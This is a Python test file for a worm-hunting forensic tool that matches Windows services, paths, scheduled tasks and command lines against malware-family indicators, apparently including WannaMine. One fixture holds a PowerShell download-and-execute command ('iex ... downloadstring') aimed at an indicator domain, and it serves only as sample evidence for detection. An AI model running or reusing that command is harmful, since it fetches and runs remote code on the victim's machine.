"""Indicator matching: exact, folder, glob, regex and contains matches with Windows path
rules, noisy-OR confidence, missing versus not collected, and a case read from real formats."""

from __future__ import annotations

import math
from pathlib import Path

import pytest

from tests.test_schtasks import ZH_CSV
from tests.test_services import QC_ZH
from wormhunt.ingest import ingest
from wormhunt.intel.families import Family, Indicator, builtin_families
from wormhunt.intel.match import FAMILY_MIN, Matcher, Observation, match_case
from wormhunt.model import EvidenceRef
from wormhunt.store import Case


def ind(id_: str, type_: str, value: str, weight: float, match: str = "exact", family: str = "fam") -> Indicator:
    return Indicator(family=family, id=id_, type=type_, value=value, match=match, weight=weight, source="T")


def fam(*indicators: Indicator, fid: str = "fam") -> Family:
    names = {"en": fid, "zh-CN": fid}
    return Family(fid, names, "worm", names, {"T": "test"}, tuple(indicators), ())


def obs(group: str, value: str, line: int = 1) -> Observation:
    from wormhunt.intel.families import normalize_path
    from wormhunt.intel.match import PATH_GROUPS

    return Observation(group, normalize_path(value) if group in PATH_GROUPS else value, "t", 1, line)


FAMILY = fam(
    ind("svc", "service_name", "snmpstorsrv", 0.9),
    ind("dir", "directory", r"%windir%\AppDiagnostics", 0.8),
    ind("dll", "file_path", r"C:\Windows\System32\snmpstorsrv.dll", 0.7),
    ind("task", "task_name", "UPnP*", 0.6, match="glob"),
    ind("rx", "service_name", r"^(Windows|Network)(Update|RPC)(Service|Host)$", 0.5, match="regex"),
    ind("dom", "domain", "codidled.com", 0.4),
    ind("port", "port", "445", 0.1),
    ind("user", "user", "k8h3d", 0.5),
)


def test_each_kind_of_match_and_windows_path_rules() -> None:
    observed = [
        obs("service_name", "SNMPSTORSRV"),
        obs("path", r"C:\WINDOWS\appdiagnostics\x86.dll", 2),
        obs("path", r"C:\Windows\SysWOW64\snmpstorsrv.dll", 3),  # SysWOW64 is System32
        obs("task_name", "UPnPHostServices", 4),
        obs("service_name", "NetworkRPCHost", 5),
        obs("cmdline", "powershell iex (new-object net.webclient).downloadstring('http://CODIDLED.com/a')", 6),
        obs("remote_port", "445", 7),
        obs("user", "Guest", 8),
    ]
    (match,) = Matcher([FAMILY]).match_host(observed)
    assert {h.indicator.id for h in match.hits} == {"svc", "dir", "dll", "task", "rx", "dom", "port"}
    expected = 1 - math.prod(1 - w for w in (0.9, 0.8, 0.7, 0.6, 0.5, 0.4, 0.1))
    assert match.confidence == pytest.approx(expected)
    assert [i.id for i in match.missing] == ["user"]  # a user listing was collected, k8h3d not in it
    assert match.hits[0].indicator.id == "svc" and match.hits[0].evidence == [EvidenceRef("t", 1, 1)]


def test_near_misses_do_not_match() -> None:
    observed = [
        obs("service_name", "snmpstorsrv2"),
        obs("path", r"C:\Windows\AppDiagnosticsX\svchost.exe"),  # a sibling folder, not the folder
        obs("path", r"D:\Windows\System32\snmpstorsrv.dll"),
        obs("task_name", "\\Microsoft\\UPnP"),  # glob anchors the whole name
        obs("service_name", "WindowsUpdateServiceX"),
        obs("cmdline", "ping codidled.co"),
    ]
    assert Matcher([FAMILY]).match_host(observed) == []


def test_generic_indicators_alone_name_no_family_and_not_collected_is_separate() -> None:
    assert Matcher([FAMILY]).match_host([obs("remote_port", "445")]) == []
    (m,) = Matcher([FAMILY]).match_host([obs("service_name", "snmpstorsrv"), obs("remote_port", "445")])
    assert m.confidence == pytest.approx(1 - 0.1 * 0.9)
    # Only services and sockets were seen: the user, task, path and domain indicators could not show.
    assert {i.id for i in m.missing} == {"rx"} and {i.id for i in m.not_collected} == {
        "dir",
        "dll",
        "task",
        "dom",
        "user",
    }


def test_extra_indicators_without_a_family_file() -> None:
    extra = ind("h", "sha256", "ab" * 32, 0.9, family="imported")
    (m,) = Matcher([], [extra]).match_host([obs("sha256", "ab" * 32)])
    assert m.family.id == "imported" and m.confidence == pytest.approx(0.9)


def test_case_from_chinese_windows_outputs_gets_wannamine3(tmp_path: Path) -> None:
    host = tmp_path / "ev" / "WKS-017"
    host.mkdir(parents=True)
    (host / "sc_qc.txt").write_bytes(QC_ZH.encode("gb18030"))
    (host / "schtasks.csv").write_bytes(ZH_CSV.encode("gb18030"))
    with Case(tmp_path / "case") as case:
        assert {e.status for e in ingest(case, [tmp_path / "ev"])} == {"ingested"}
        matches = match_case(case, builtin_families())
    best = matches["WKS-017"][0]
    assert best.family.id == "wannamine3" and best.confidence >= FAMILY_MIN
    seen = {h.indicator.type for h in best.hits}
    assert {"service_name", "task_name", "directory"} <= seen  # the task runs from AppDiagnostics
